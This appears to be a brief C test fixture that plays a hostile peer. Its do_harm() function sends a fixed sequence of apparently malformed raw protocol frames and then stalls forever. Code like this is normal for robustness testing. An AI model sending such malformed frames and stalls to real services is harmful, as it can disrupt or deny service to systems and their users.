#include "hostile.h"

static uint32_t do_harm(void) {
  const unsigned char frames[] = {0, 0, 0, 2, 0x08, 2, 0, 0, 0, 2, 0x08, 2};
  send_raw(frames, sizeof frames);
  wait_for_ever();
  return 0;
}
